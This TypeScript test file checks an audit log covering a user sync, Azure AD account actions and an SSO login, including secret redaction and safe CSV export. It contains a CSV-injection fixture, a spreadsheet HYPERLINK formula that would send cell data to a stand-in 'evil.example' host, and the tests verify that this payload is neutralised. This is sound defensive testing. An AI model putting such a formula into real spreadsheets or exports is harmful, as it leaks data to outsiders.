/**
 * The audit log's must-show: one sync run, two account actions and an SSO login produce exactly
 * their records; the CSV round-trips through csv-parse; formula-looking values are neutralised;
 * no record holds a secret.
 */
import { parse } from 'csv-parse/sync';
import nock from 'nock';
import { accountActionEntry } from '../../nodes/shared/graph/accountActionAudit';
import { AUDIT_FIELDS, guardChange, REDACTED, type AuditActor, type AuditEntry } from '../../nodes/shared/audit/record';
import { auditCsv } from '../../nodes/shared/export/audit';
import { clearTokenCache } from '../../nodes/shared/graph/auth';
import { GraphClient } from '../../nodes/shared/graph/client';
import { buildConnection } from '../../nodes/shared/graph/connection';
import { USER_SELECT } from '../../nodes/shared/graph/userResolution';
import { runAccountAction, type AccountActionRequest } from '../../nodes/shared/graph/accountActions';
import { mapUser } from '../../nodes/shared/requester/mapping';
import type { Requester } from '../../nodes/shared/requester/model';
import { clearOpenIdCache } from '../../nodes/shared/sso/openIdMetadata';
import { ssoAuditEntry } from '../../nodes/shared/sso/audit';
import { forgetSsoStores } from '../../nodes/shared/sso/storeAccess';
import { applyChanges } from '../../nodes/shared/sync/applyChanges';
import type { SyncInput } from '../../nodes/shared/sync/engine';
import { FAKE_SECRET, GRAPH, fakeCredentialFields, nockTokenEndpoint } from '../support/fakeTenant';
import { MemoryDestination } from '../support/memoryDestination';
import { MemoryStore } from '../support/memorySyncStore';
import { nockOpenIdConfiguration, nockSigningKeys, USER_EMAIL } from '../sso/support/identityPlatform';
import { LoginHarness } from '../sso/support/loginHarness';

const SYNC_ACTOR: AuditActor = { workflowId: 'wf-sync', workflowName: 'Requester sync', executionId: '41', trigger: 'trigger' };
const TICKET_ACTOR: AuditActor = { workflowId: 'wf-ticket', workflowName: 'Ticket actions', executionId: '42', trigger: 'webhook' };
const SSO_ACTOR: AuditActor = { workflowId: 'wf-sso', workflowName: 'SSO', executionId: '43', trigger: 'webhook' };
const NOW = new Date('2026-12-01T08:00:00.000Z');
const uid = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
const ALICE = { id: 'a11ce000-0000-4000-8000-000000000001', userPrincipalName: 'alice@contoso.test', displayName: 'Alice', mail: 'alice@contoso.test', otherMails: [], proxyAddresses: [], accountEnabled: true };
const FORMULA_CALLER = '=HYPERLINK("https://evil.example/?leak="&A1,"Jane Agent")';

function requester(n: number, overrides: Record<string, unknown> = {}): Requester {
	const user = { id: uid(n), displayName: `User ${n}`, givenName: 'User', surname: String(n), mail: `user${n}@contoso.test`, userPrincipalName: `user${n}@contoso.test`, jobTitle: 'Engineer', department: 'IT', accountEnabled: true, ...overrides };
	const result = mapUser(user, {});
	if (!result.ok) throw new Error(JSON.stringify(result.reasons));
	return result.requester;
}

beforeAll(() => nock.disableNetConnect());
afterEach(() => {
	nock.cleanAll();
	clearTokenCache();
	clearOpenIdCache();
	forgetSsoStores();
});
afterAll(() => nock.enableNetConnect());

/** Two creates, an update of two fields, a deactivation and an unsynced (unmappable) user. */
async function syncRecords(): Promise<AuditEntry[]> {
	const destination = new MemoryDestination();
	const changed = destination.seed({ ...destination.expectedFields(requester(1)), jobTitle: 'Engineer', department: 'IT' });
	const leaver = destination.seed(destination.expectedFields(requester(4)));
	const input: SyncInput = {
		mapped: [requester(1, { jobTitle: 'Lead', department: 'Ops' }), requester(2), requester(3), requester(4, { accountEnabled: false })].map((r, itemIndex) => ({ requester: r, itemIndex })),
		removed: [],
		unmapped: [{ azureObjectId: uid(5), userPrincipalName: 'user5@contoso.test', email: 'not-an-email', displayName: 'User 5', stage: 'validation', reasons: [{ field: 'email', code: 'invalidEmail', message: 'not an email address' }], itemIndex: 4 }],
		completeRead: false,
		mode: 'incremental',
	};
	const report = await applyChanges(
		{ store: new MemoryStore(), workflowId: 'wf-sync', runId: '41', actor: SYNC_ACTOR, now: () => NOW, logger: { info: () => undefined, warn: () => undefined } },
		{ syncId: 'default', input, readFor: ['default'], dryRun: false, safeguard: { maxCount: 500, maxPercent: 100 }, concurrency: 2, deactivateDisabled: true, outputUsers: 'changes', timeZone: 'UTC' },
		async () => destination,
	);
	const records = report.audit.map((entry) => entry.record);
	expect(records.map((record) => [record.action, record.outcome, record.azureObjectId]).sort()).toEqual(
		[
			['requesterCreated', 'done', uid(2)],
			['requesterCreated', 'done', uid(3)],
			['requesterDeactivated', 'done', uid(4)],
			['requesterUnsynced', 'failed', uid(5)],
			['requesterUpdated', 'done', uid(1)],
		].sort(),
	);
	const byAction = (action: string, id: string) => records.find((record) => record.action === action && record.azureObjectId === id)!;
	expect(byAction('requesterUpdated', uid(1))).toEqual({
		recordId: expect.stringMatching(/^[0-9a-f-]{36}$/),
		time: NOW.toISOString(),
		source: 'sync',
		action: 'requesterUpdated',
		outcome: 'done',
		...SYNC_ACTOR,
		ticketId: null,
		caller: null,
		azureObjectId: uid(1),
		requesterId: changed.id,
		email: 'user1@contoso.test',
		changes: 'jobTitle: "Engineer" → "Lead"; department: "IT" → "Ops"',
		reason: 'Changed: jobTitle, department',
	});
	expect(byAction('requesterDeactivated', uid(4))).toMatchObject({ requesterId: leaver.id, changes: '', reason: 'Disabled in Azure AD' });
	expect(byAction('requesterUnsynced', uid(5))).toMatchObject({ requesterId: null, email: 'not-an-email', reason: expect.stringContaining('email: not an email address (validation, invalidEmail)') });
	expect(byAction('requesterCreated', uid(2)).requesterId).toMatch(/^\d+$/);
	expect(report.audit.find((entry) => entry.record.azureObjectId === uid(5))?.itemIndex).toBe(4);
	return records;
}

function graphClient() {
	return new GraphClient(buildConnection(fakeCredentialFields()), { sleep: async () => undefined });
}

async function accountAction(request: Partial<AccountActionRequest> & Pick<AccountActionRequest, 'action'>, caller: string | null) {
	nockTokenEndpoint();
	nock(GRAPH).get(`/v1.0/users/${ALICE.id}`).query({ $select: USER_SELECT }).reply(200, ALICE);
	const result = await runAccountAction(graphClient(), { user: ALICE.id, ticketId: 'INC-7', protection: { protectedGroupIds: [], protectedUsers: [], protectPrivilegedRoles: false }, ...request }, { now: () => NOW });
	return { result, entry: accountActionEntry(result, TICKET_ACTOR, caller) };
}

async function accountActionRecords(): Promise<{ records: AuditEntry[]; temporaryPassword: string }> {
	nock(GRAPH).patch(`/v1.0/users/${ALICE.id}`, { accountEnabled: false }).reply(204);
	nock(GRAPH).post(`/v1.0/users/${ALICE.id}/revokeSignInSessions`).reply(200, { value: true });
	const disabled = await accountAction({ action: 'disable' }, FORMULA_CALLER);
	expect(disabled.entry).toEqual({
		recordId: expect.any(String),
		time: NOW.toISOString(),
		source: 'accountAction',
		action: 'disable',
		outcome: 'done',
		...TICKET_ACTOR,
		ticketId: 'INC-7',
		caller: FORMULA_CALLER,
		azureObjectId: ALICE.id,
		requesterId: null,
		email: 'alice@contoso.test',
		changes: 'accountEnabled: true → false; signInSessionsRevoked',
		reason: expect.stringMatching(/^Account disabled and sign-in sessions revoked/),
	});
	// The record is built from the structured writes; the action's own record holds their text.
	expect(disabled.result.written).toEqual([{ field: 'accountEnabled', from: true, to: false }, { field: 'signInSessionsRevoked' }]);
	expect(disabled.result.audit.changes).toEqual(['accountEnabled: true → false', 'signInSessionsRevoked']);

	const refused = await accountAction({ action: 'unlock', protection: { protectedGroupIds: [], protectedUsers: ['alice@contoso.test'], protectPrivilegedRoles: false } }, 'agent.smith');
	expect(refused.entry).toMatchObject({ action: 'unlock', outcome: 'refused', changes: '', caller: 'agent.smith', reason: expect.stringContaining('Protected Users list') });

	// A reset with the temporary password switched on: the password goes to the caller, never to the record.
	nock(GRAPH).patch(`/v1.0/users/${ALICE.id}`).reply(204);
	const reset = await accountAction({ action: 'forcePasswordReset', passwordReset: { returnTemporaryPassword: true } }, 'agent.smith');
	expect(reset.result.temporaryPassword).toHaveLength(16);
	expect(reset.entry).toMatchObject({ action: 'forcePasswordReset', outcome: 'done', changes: `passwordProfile: ${REDACTED}` });
	return { records: [disabled.entry, refused.entry, reset.entry], temporaryPassword: reset.result.temporaryPassword! };
}

async function ssoRecords(): Promise<{ records: AuditEntry[]; secrets: string[] }> {
	// The account actions' unused token answers would take the code redemption (same endpoint).
	nock.cleanAll();
	nockOpenIdConfiguration().persist();
	nockSigningKeys().persist();
	const harness = new LoginHarness();
	const { result, idToken, code, redemption } = await harness.login();
	if (!result.ok) throw new Error(result.adminReason);
	const records = harness.store.audit.map((record) => ssoAuditEntry(record, SSO_ACTOR));
	expect(records.map((record) => [record.action, record.outcome, record.email, record.caller])).toEqual([
		['loginStarted', 'done', null, '198.51.100.7'],
		['loginSucceeded', 'done', USER_EMAIL, '198.51.100.7'],
	]);
	expect(records[1]).toMatchObject({ source: 'sso', requesterId: harness.jane.id, reason: expect.stringContaining(`session ${result.sessionId}`) });
	// Read again (a view of the SSO store), a record keeps its id.
	expect(ssoAuditEntry(harness.store.audit[1], SSO_ACTOR).recordId).toBe(records[1].recordId);
	return { records, secrets: [result.sessionToken, idToken, code, redemption.body.code_verifier] };
}

describe('the audit log of one sync, account actions and an SSO login', () => {
	let all: AuditEntry[];
	let secrets: string[];

	beforeAll(async () => {
		nock.disableNetConnect();
		const sync = await syncRecords();
		const actions = await accountActionRecords();
		const sso = await ssoRecords();
		all = [...sync, ...actions.records, ...sso.records];
		secrets = [actions.temporaryPassword, ...sso.secrets, FAKE_SECRET];
	});

	it('gives every record a unique id and only the flat record fields', () => {
		expect(new Set(all.map((record) => record.recordId)).size).toBe(all.length);
		for (const record of all) expect(Object.keys(record)).toEqual(AUDIT_FIELDS);
	});

	it('holds no secret, token, code or temporary password in any record', () => {
		expect(all.length).toBe(10);
		const text = JSON.stringify(all);
		for (const secret of secrets) expect(text).not.toContain(secret);
		expect(text).not.toMatch(/eyJ[A-Za-z0-9_-]{10,}\./);
	});

	it('round-trips through csv-parse, with formula-looking values neutralised', () => {
		const rows = parse(auditCsv(all), { columns: true, skip_empty_lines: true }) as Array<Record<string, string>>;
		expect(rows).toHaveLength(all.length);
		const asText = (record: AuditEntry) => Object.fromEntries(AUDIT_FIELDS.map((field) => [field, record[field] ?? '']));
		const formula = all.findIndex((record) => record.caller === FORMULA_CALLER);
		expect(rows[formula].caller).toBe(`'${FORMULA_CALLER}`);
		rows.forEach((row, index) => {
			if (index !== formula) expect(row).toEqual(asText(all[index]));
		});
		expect({ ...rows[formula], caller: FORMULA_CALLER }).toEqual(asText(all[formula]));
	});
});

describe('guardChange, the one secret guard', () => {
	it('keeps requester fields (even postalCode) and drops the values of fields that may hold a secret', () => {
		expect(guardChange({ field: 'postalCode', from: '0150', to: '0151' })).toEqual({ field: 'postalCode', from: '0150', to: '0151' });
		expect(guardChange({ field: 'jobTitle', from: 'a', to: 'b' })).toEqual({ field: 'jobTitle', from: 'a', to: 'b' });
		for (const field of ['password', 'temporaryPassword', 'clientSecret', 'accessToken', 'apiKey', 'code', 'sessionCookie']) {
			expect(guardChange({ field, from: 'old-secret', to: 'new-secret' })).toEqual({ field, to: REDACTED });
		}
		expect(guardChange({ field: 'signInSessionsRevoked' })).toEqual({ field: 'signInSessionsRevoked' });
	});
});
